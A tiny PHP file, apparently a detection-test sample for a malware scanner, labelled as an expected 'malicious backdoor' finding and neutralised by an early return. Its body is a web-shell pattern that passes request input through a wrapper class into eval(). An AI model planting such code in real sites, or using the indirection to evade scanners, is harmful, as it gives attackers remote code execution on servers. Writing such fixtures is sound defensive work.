<?php return; // want: malicious backdoor php.code.request
function pass($v) { $w = trim($v); return stripslashes($w); }
class Box { public $in; function put($v) { $this->in = $v; } function open() { eval($this->in); } }
$b = new Box();
$b->put(pass($_REQUEST['data']));
$b->open();
